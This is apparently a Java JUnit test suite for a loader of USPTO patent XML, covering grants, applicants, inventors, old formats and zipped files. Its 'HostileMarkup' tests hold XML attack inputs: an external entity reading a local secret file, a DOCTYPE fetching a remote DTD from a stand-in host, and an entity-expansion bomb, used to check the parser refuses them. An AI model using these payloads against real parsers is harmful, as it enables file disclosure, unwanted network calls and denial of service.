package innograph.loaders.uspto;

import static innograph.loaders.uspto.Fixtures.APPLICATION;
import static innograph.loaders.uspto.Fixtures.APPLICATION_OF_2001;
import static innograph.loaders.uspto.Fixtures.DECLARATION;
import static innograph.loaders.uspto.Fixtures.GRANT;
import static innograph.loaders.uspto.Fixtures.GRANT_OF_2001;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import innograph.loaders.source.LoadException;
import innograph.loaders.source.LoadProblem;
import innograph.loaders.testing.Gathered;
import innograph.loaders.testing.TestFiles;
import innograph.model.EntityType;
import innograph.model.LinkType;
import innograph.model.OrganizationKind;
import innograph.model.record.EntityRecord;
import innograph.model.record.LinkRecord;
import innograph.model.record.LocalizedName;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UsptoSourceTests {
    private static final String OTHER_GRANT = GRANT.replace(
                    "<doc-number>09999901</doc-number>", "<doc-number>RE059902</doc-number>")
            .replace("<kind>B2</kind>", "<kind>E1</kind>");

    @TempDir
    @SuppressWarnings("NullAway.Init") // set by JUnit
    Path folder;

    private Gathered read(String file) throws IOException {
        return Gathered.from(new UsptoSource(), new TestFiles(folder).plain("ipg240305.xml", file));
    }

    private EntityRecord first(String file) throws IOException {
        return read(file).entities().getFirst();
    }

    private static Iterable<String> patents(Gathered gathered) {
        return gathered.entities().stream()
                .filter(entity -> entity.type() == EntityType.PATENT && !entity.mention())
                .map(entity -> entity.identifiers().getFirst().toString())
                .toList();
    }

    @Nested
    class AGrant {
        @Test
        void saysWhatItsFrontPageSays() throws IOException {
            assertThat(first(GRANT).properties())
                    .containsOnly(
                            Map.entry("number", "US9999901B2"),
                            Map.entry("jurisdiction", "US"),
                            Map.entry("kind", "B2"),
                            Map.entry("application", "17999901"),
                            Map.entry("abstract", "A kite turns round. It needs 5 μm of string."),
                            Map.entry("priority", LocalDate.of(2020, 2, 3)),
                            Map.entry("filed", LocalDate.of(2021, 2, 1)),
                            Map.entry("published", LocalDate.of(2024, 3, 5)),
                            Map.entry("granted", LocalDate.of(2024, 3, 5)));
        }

        @Test
        void isNamedByItsTitleWithoutMarkup() throws IOException {
            assertThat(first(GRANT).names()).containsExactly(new LocalizedName("Kite that comes back", "en"));
        }

        @Test
        void withoutPriorityHasThatOfItsFiling() throws IOException {
            assertThat(first(GRANT.replaceAll("(?s)<priority-claims>.*</priority-claims>", "")
                                    .replaceAll("(?s)<us-related-documents>.*</us-related-documents>", ""))
                            .properties())
                    .containsEntry("priority", LocalDate.of(2021, 2, 1));
        }

        @Test
        void continuesWhatWasFiledBefore() throws IOException {
            assertThat(first(GRANT.replaceAll("(?s)<priority-claims>.*</priority-claims>", ""))
                            .properties())
                    .containsEntry("priority", LocalDate.of(2020, 6, 1));
        }

        @Test
        void withADateThatDoesNotExistIsKeptWithoutIt() throws IOException {
            Gathered gathered = read(GRANT.replace("<date>20210201</date>", "<date>20210231</date>"));
            assertThat(gathered.entities().getFirst().properties()).doesNotContainKey("filed");
            assertThat(gathered.rejects()).singleElement().satisfies(reject -> {
                assertThat(reject.problem()).isEqualTo(LoadProblem.VALUE_UNREADABLE);
                assertThat(reject.place()).hasToString("ipg240305.xml document 1, line 1");
                assertThat(reject.reason()).contains("application: '20210231' is no date");
            });
        }

        @Test
        void isAboutItsClassesTheMainOneFirst() throws IOException {
            assertThat(read(GRANT).links(LinkType.ABOUT))
                    .containsExactly(
                            "patent:US9999901B2>cpc:A63H27/08",
                            "patent:US9999901B2>cpc:B64U10/14",
                            "patent:US9999901B2>ipc:A63H27/08",
                            "patent:US9999901B2>ipc:B64C39/02");
        }

        @Test
        void withABadClassIsKeptWithoutIt() throws IOException {
            Gathered gathered = read(GRANT.replace("<section>B</section><class>64</class><subclass>C</subclass>", "?"));
            assertThat(gathered.links(LinkType.ABOUT)).hasSize(3);
            assertThat(gathered.rejects())
                    .singleElement()
                    .satisfies(reject -> assertThat(reject.problem()).isEqualTo(LoadProblem.IDENTIFIER_INVALID));
        }

        @Test
        void citesPatentsAndWorksThatHaveADoi() throws IOException {
            assertThat(read(GRANT).links())
                    .filteredOn(link -> link.type() == LinkType.CITES)
                    .extracting(link -> link.to().toString(), LinkRecord::properties)
                    .containsExactly(
                            tuple("patent:US4999901A", Map.of("by", "examiner")),
                            tuple("patent:WO2010999901A1", Map.of("by", "applicant")),
                            tuple("doi:10.9999/kites.9", Map.of("by", "applicant")));
        }

        @Test
        void onlyMentionsWhatItCites() throws IOException {
            Gathered gathered = read(GRANT);
            assertThat(gathered.entity("patent:US4999901A").mention()).isTrue();
            assertThat(gathered.entity("doi:10.9999/kites.9").names())
                    .containsExactly(new LocalizedName("Fern, “On kites”, 2009, doi:10.9999/Kites.9.", ""));
        }

        @Test
        void thatCitesItselfIsKeptWithoutThat() throws IOException {
            Gathered gathered = read(GRANT.replace(
                    "<doc-number>4999901</doc-number>\n<kind>A</kind>",
                    "<doc-number>9999901</doc-number><kind>B2</kind>"));
            assertThat(gathered.links(LinkType.CITES)).hasSize(2);
            assertThat(gathered.rejects())
                    .singleElement()
                    .satisfies(reject -> assertThat(reject.problem()).isEqualTo(LoadProblem.RECORD_INVALID));
        }

        @Test
        void withoutNumberIsRejected() throws IOException {
            Gathered gathered = read(GRANT.replace("<doc-number>09999901</doc-number>", ""));
            assertThat(gathered.entities()).isEmpty();
            assertThat(gathered.rejects())
                    .singleElement()
                    .satisfies(reject -> assertThat(reject.reason()).contains("no publication number"));
        }

        @Test
        void withoutAbstractIsReadAsWell() throws IOException {
            assertThat(first(GRANT.replaceAll("(?s)<abstract.*</abstract>", "")).properties())
                    .doesNotContainKey("abstract");
        }

        @Test
        void ofBibliographicDataOnlyEndsBeforeTheDescription() throws IOException {
            assertThat(read(GRANT.replaceAll("(?s)<description.*</claims>", "")).rejects())
                    .isEmpty();
        }
    }

    @Nested
    class AnApplicant {
        private static final String COMPANY = "local:uspto/organization/jp/dragon-kites";

        @Test
        void isAnOrganizationByItsNameAndCountry() throws IOException {
            EntityRecord company = read(GRANT).entity(COMPANY);
            assertThat(company.names()).containsExactly(new LocalizedName("Dragon Kites Co., Ltd.", ""));
            assertThat(company.properties()).containsOnly(Map.entry("country", "JP"), Map.entry("city", "Nagoya"));
            assertThat(company.mention()).isTrue();
        }

        @Test
        void isNotTheAssigneeIfTheTwoDiffer() throws IOException {
            assertThat(read(GRANT).links(LinkType.APPLIED_BY)).containsExactly("patent:US9999901B2>" + COMPANY);
        }

        @Test
        void isTheAssigneeIfOnlyInventorsApplied() throws IOException {
            String grant = GRANT.replace(
                    "<orgname>Dragon Kites Co., Ltd.</orgname>",
                    "<last-name>Fern</last-name><first-name>Ada B.</first-name>");
            assertThat(read(grant).links(LinkType.APPLIED_BY))
                    .containsExactly("patent:US9999901B2>local:uspto/organization/kite-trading");
        }

        @Test
        void isTheInventorIfThereIsNobodyElse() throws IOException {
            assertThat(read(APPLICATION).links(LinkType.APPLIED_BY))
                    .containsExactly("patent:US20059999902A1>local:uspto/person/us10999902/ada-b-fern");
        }

        @Test
        void mayBeAnAuthority() throws IOException {
            String grant = GRANT.replaceAll("(?s)<us-applicants>.*</us-applicants>", "")
                    .replace(
                            "<orgname>Kite Trading LLC</orgname><role>02</role>",
                            "<orgname>US NAVY</orgname><role>06</role>");
            assertThat(read(grant).entity("local:uspto/organization/us-navy").kinds())
                    .containsExactly(OrganizationKind.GOVERNMENT);
        }

        @ParameterizedTest
        @ValueSource(strings = {"04", "05", "14"})
        void mayBeAnIndividualThatIsWrittenLikeACompany(String role) throws IOException {
            String grant = GRANT.replaceAll("(?s)<us-applicants>.*</us-applicants>", "")
                    .replace(
                            "<orgname>Kite Trading LLC</orgname><role>02</role>",
                            "<orgname>Eva Reed</orgname><role>" + role + "</role>");
            assertThat(read(grant)
                            .entity("local:uspto/person/us17999901/eva-reed")
                            .type())
                    .isEqualTo(EntityType.PERSON);
        }

        @ParameterizedTest
        @ValueSource(strings = {"unknown", "omitted", "XX"})
        void mayBeOfUnknownCountry(String country) throws IOException {
            assertThat(read(GRANT.replace(
                                    "<country>JP</country></address>", "<country>" + country + "</country></address>"))
                            .ids())
                    .contains("local:uspto/organization/dragon-kites");
        }
    }

    @Nested
    class AnInventor {
        @Test
        void isAPersonWithinTheApplication() throws IOException {
            EntityRecord ada = read(GRANT).entity("local:uspto/person/us17999901/ada-b-fern");
            assertThat(ada.names()).containsExactly(new LocalizedName("Ada B. Fern", ""));
            assertThat(ada.properties()).containsOnly(Map.entry("country", "US"), Map.entry("city", "Reno"));
        }

        @Test
        void hasAPlaceAmongTheInventors() throws IOException {
            assertThat(read(GRANT).links())
                    .filteredOn(link -> link.type() == LinkType.INVENTED_BY)
                    .extracting(LinkRecord::properties)
                    .containsExactly(Map.of("position", 1L), Map.of("position", 2L));
        }

        @Test
        void mayBeAmongTheApplicantsOnly() throws IOException {
            assertThat(read(APPLICATION).links(LinkType.INVENTED_BY))
                    .containsExactly("patent:US20059999902A1>local:uspto/person/us10999902/ada-b-fern");
        }
    }

    @Nested
    class TheFormat {
        @Test
        void ofApplicationsSince2005IsRead() throws IOException {
            Gathered gathered = read(APPLICATION);
            assertThat(gathered.entities().getFirst().properties())
                    .containsEntry("published", LocalDate.of(2005, 1, 6))
                    .doesNotContainKey("granted");
            assertThat(gathered.links(LinkType.ABOUT))
                    .containsExactly("patent:US20059999902A1>ipc:A63H27/08", "patent:US20059999902A1>ipc:B64C39/02");
        }

        @Test
        void ofApplicationsUntil2004IsRead() throws IOException {
            Gathered gathered = read(APPLICATION_OF_2001);
            assertThat(gathered.entities().getFirst().properties())
                    .containsOnly(
                            Map.entry("number", "US20019999903A1"),
                            Map.entry("jurisdiction", "US"),
                            Map.entry("kind", "A1"),
                            Map.entry("application", "09999903"),
                            Map.entry("abstract", "A kite [of silk]."),
                            Map.entry("priority", LocalDate.of(1999, 3, 1)),
                            Map.entry("filed", LocalDate.of(2000, 12, 4)),
                            Map.entry("published", LocalDate.of(2001, 5, 10)));
            assertThat(gathered.ids())
                    .contains(
                            "local:uspto/organization/dragon-kites",
                            "local:uspto/person/us09999903/ada-fern",
                            "local:uspto/person/us09999903/carl-moss",
                            "ipc:A63H27/08",
                            "ipc:B64C39/02");
        }

        @Test
        void ofGrantsUntil2004IsReadEvenWhereItIsNoXml() throws IOException {
            Gathered gathered = read(GRANT_OF_2001);
            assertThat(gathered.rejects()).isEmpty();
            assertThat(gathered.entities().getFirst().properties())
                    .containsOnly(
                            Map.entry("number", "USD999904S1"),
                            Map.entry("jurisdiction", "US"),
                            Map.entry("kind", "S1"),
                            Map.entry("application", "29999904"),
                            Map.entry("abstract", "A kite."),
                            Map.entry("priority", LocalDate.of(1998, 1, 5)),
                            Map.entry("filed", LocalDate.of(1999, 1, 6)),
                            Map.entry("published", LocalDate.of(2001, 1, 2)),
                            Map.entry("granted", LocalDate.of(2001, 1, 2)));
        }

        @Test
        void ofGrantsUntil2004NamesPartiesClassesAndCitations() throws IOException {
            assertThat(read(GRANT_OF_2001).links())
                    .extracting(link -> link.type() + " " + link.to() + " " + link.properties())
                    .containsExactly(
                            "APPLIED_BY local:uspto/organization/jp/dragon-kites {position=1}",
                            "INVENTED_BY local:uspto/person/us29999904/ada-fern {position=1}",
                            "ABOUT ipc:B64C3/02 {}",
                            "ABOUT ipc:A63H27/08 {}",
                            "CITES patent:USD199905S {by=examiner}",
                            "CITES patent:WO9699905 {by=other}");
        }

        @ParameterizedTest
        @CsvSource(delimiter = '|', textBlock = """
                PATN\\nWKU  039327094             | Green Book
                HHHHHTAPS1 ISSUE - 760106\\nPATN  | Green Book
                1\\n*** BRS DOCUMENT BOUNDARY *** | search system (BRS)
                patent,title\\n                   | is no XML
                """)
        void thatIsNoXmlIsRefused(String beginning, String reason) {
            assertThatThrownBy(() -> read(beginning.replace("\\n", "\n")))
                    .isInstanceOf(LoadException.class)
                    .hasMessageContaining("LOAD-205")
                    .hasMessageContaining(reason)
                    .hasMessageContaining("give the");
        }

        @Test
        void ofAnotherXmlIsRefused() {
            assertThatThrownBy(() -> read(DECLARATION + "<class-scheme/>"))
                    .isInstanceOf(LoadException.class)
                    .hasMessageContaining("<class-scheme> is no patent document");
        }
    }

    @Nested
    class AFileOfManyDocuments {
        @Test
        void isReadDocumentByDocument() throws IOException {
            assertThat(patents(read(GRANT + OTHER_GRANT + APPLICATION)))
                    .containsExactly("patent:US9999901B2", "patent:USRE59902E1", "patent:US20059999902A1");
        }

        @Test
        void mayHaveThemOnOneLine() throws IOException {
            assertThat(patents(read(GRANT.strip() + OTHER_GRANT))).hasSize(2);
        }

        @Test
        void mayTellThemApartByTheirDocumentTypes() throws IOException {
            assertThat(patents(read(GRANT_OF_2001 + GRANT_OF_2001.replace("D0999904", "D0999905"))))
                    .containsExactly("patent:USD999904S1", "patent:USD999905S1");
        }

        @Test
        void mayHaveADocumentTypeInAComment() throws IOException {
            assertThat(patents(read(GRANT.replaceFirst("\n", "\n<!-- <!DOCTYPE PATDOC PUBLIC \"old\" [ -->\n"))))
                    .hasSize(1);
        }

        @Test
        void givesTheNextOnesWhenOneIsBroken() throws IOException {
            Gathered gathered = read(GRANT + GRANT.replace("</us-parties>", "</oops>") + OTHER_GRANT);
            assertThat(patents(gathered)).containsExactly("patent:US9999901B2", "patent:USRE59902E1");
            assertThat(gathered.rejects()).singleElement().satisfies(reject -> {
                assertThat(reject.problem()).isEqualTo(LoadProblem.RECORD_UNREADABLE);
                assertThat(reject.place().position())
                        .isEqualTo("document 2, line " + (GRANT.lines().count() + 1));
                assertThat(reject.reason()).contains("no well-formed XML", "us-parties");
            });
        }

        @Test
        void givesTheNextOnesWhenOneIsCutOff() throws IOException {
            Gathered gathered = read(GRANT.substring(0, GRANT.indexOf("<inventors>")) + OTHER_GRANT);
            assertThat(patents(gathered)).containsExactly("patent:USRE59902E1");
            assertThat(gathered.rejects()).hasSize(1);
        }

        @Test
        void givesTheNextOnesWhenOneIsTooLong() throws IOException {
            String longOne = GRANT.replace("<agents>", "<agents>" + " ".repeat(200_000));
            Path file = new TestFiles(folder).plain("a.xml", longOne + OTHER_GRANT);
            Gathered gathered = Gathered.from(new UsptoSource(100_000), file);
            assertThat(patents(gathered)).containsExactly("patent:USRE59902E1");
            assertThat(gathered.rejects())
                    .singleElement()
                    .satisfies(reject -> assertThat(reject.reason()).contains("more than 100000 bytes"));
        }

        @Test
        void isReadHoweverLongTheDescriptionsAre() throws IOException {
            String longOne = GRANT.replace("Long.", "Long. ".repeat(100_000));
            Path file = new TestFiles(folder).plain("a.xml", longOne + OTHER_GRANT);
            assertThat(patents(Gathered.from(new UsptoSource(100_000), file))).hasSize(2);
        }

        @Test
        void givesTheNextOnesWhenOneIsNotUtf8() throws IOException {
            byte[] bytes =
                    (GRANT.replace("Kite that", "Drache für") + OTHER_GRANT).getBytes(StandardCharsets.ISO_8859_1);
            Gathered gathered = Gathered.from(new UsptoSource(), new TestFiles(folder).raw("a.xml", bytes));
            assertThat(patents(gathered)).containsExactly("patent:USRE59902E1");
            assertThat(gathered.rejects())
                    .singleElement()
                    .satisfies(reject -> assertThat(reject.reason()).contains("not UTF-8"));
        }

        @Test
        void mayHoldListingsOfSequences() throws IOException {
            Gathered gathered = read(GRANT + DECLARATION + "<sequence-cwu id=\"s\"><number>1</number></sequence-cwu>");
            assertThat(patents(gathered)).hasSize(1);
            assertThat(gathered.rejects()).isEmpty();
        }

        @Test
        void rejectsAStrayDocumentOfAnotherKind() throws IOException {
            assertThat(read(GRANT + DECLARATION + "<class-scheme/>").rejects())
                    .singleElement()
                    .satisfies(reject -> assertThat(reject.problem()).isEqualTo(LoadProblem.RECORD_INVALID));
        }

        @Test
        void saysTheSameEachTime() throws IOException {
            String file = GRANT + OTHER_GRANT + APPLICATION_OF_2001 + GRANT_OF_2001;
            assertThat(read(file).entities()).isEqualTo(read(file).entities());
        }
    }

    @Nested
    class Packed {
        @Test
        void inAWeeklyZipWithListsAndReportsTheDocumentsAreRead() throws IOException {
            Path zip = new TestFiles(folder)
                    .zip("w.zip", Map.of("ipg.xml", GRANT, "ipglst.txt", "US1", "ipgrpt.html", "<html></html>"));
            assertThat(patents(Gathered.from(new UsptoSource(), zip))).containsExactly("patent:US9999901B2");
        }

        @Test
        void inAFolderAllDocumentsAreRead() throws IOException {
            Path files = new TestFiles(folder).folder("f", Map.of("a.xml", GRANT, "b.sgm", GRANT_OF_2001));
            assertThat(patents(Gathered.from(new UsptoSource(), files)))
                    .containsExactly("patent:US9999901B2", "patent:USD999904S1");
        }

        @Test
        void inAFolderWithoutDocumentsThereIsNothingToRead() throws IOException {
            Path files = new TestFiles(folder).folder("f", Map.of("a.html", "<html/>", "b.txt", "<b/>"));
            assertThatThrownBy(() -> Gathered.from(new UsptoSource(), files))
                    .isInstanceOf(LoadException.class)
                    .hasMessageContaining("has no file that could be read");
        }
    }

    @Nested
    class HostileMarkup {
        private static final String TYPE =
                "<!DOCTYPE us-patent-grant SYSTEM \"us-patent-grant-v47-2022-02-17.dtd\" [ ]>";

        private static String grantWith(String documentType, String title) {
            return GRANT.replace(TYPE, documentType).replace("Kite that <i>comes</i> back", title);
        }

        private String titleOf(String grant) throws IOException {
            return first(grant).names().getFirst().value();
        }

        @Test
        void readsNoOtherFile() throws IOException {
            Path secret = Files.writeString(folder.resolve("secret.txt"), "the secret");
            String type = "<!DOCTYPE us-patent-grant [<!ENTITY x SYSTEM \"%s\">]>".formatted(secret.toUri());
            assertThat(titleOf(grantWith(type, "Kite &x;"))).isEqualTo("Kite &x;");
        }

        @Test
        void readsNoDocumentTypeFromElsewhere() throws IOException {
            String type = "<!DOCTYPE us-patent-grant SYSTEM \"http://192.0.2.1/evil.dtd\" [<!ENTITY % p SYSTEM"
                    + " \"http://192.0.2.1/p\"> %p;]>";
            assertThat(titleOf(grantWith(type, "Kite"))).isEqualTo("Kite");
        }

        @Test
        void doesNotGrow() throws IOException {
            String type = """
                    <!DOCTYPE us-patent-grant [<!ENTITY a0 "ha"><!ENTITY a1 "&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;">
                    <!ENTITY a2 "&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;"><!ENTITY a3 "&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;">]>""";
            assertThat(titleOf(grantWith(type, "Kite &a3;"))).isEqualTo("Kite &a3;");
        }

        @Test
        void doesNotGiveNamesAnotherMeaning() throws IOException {
            assertThat(titleOf(grantWith("<!DOCTYPE us-patent-grant [<!ENTITY agr \"evil\">]>", "&agr;-Kite")))
                    .isEqualTo("α-Kite");
        }

        @Test
        void mayNameCharacters() throws IOException {
            assertThat(titleOf(grantWith(
                            TYPE, "&Dgr;T &gt; 5 &deg;C, &agr;&mdash;&ohgr; &lsqb;&equals;&rsqb; &amp; &#x3b2;")))
                    .isEqualTo("ΔT > 5 °C, α—ω [=] & β");
        }

        @Test
        void mayNameACharacterThatNobodyKnows() throws IOException {
            assertThat(titleOf(grantWith(TYPE, "Kite &nosuchthing;"))).isEqualTo("Kite &nosuchthing;");
        }

        @Test
        void isNotFollowedIntoTheDepth() throws IOException {
            Gathered gathered =
                    read(grantWith(TYPE, "<b>".repeat(100_000) + "x" + "</b>".repeat(100_000)) + OTHER_GRANT);
            assertThat(patents(gathered)).containsExactly("patent:USRE59902E1");
            assertThat(gathered.rejects()).hasSize(1);
        }
    }
}
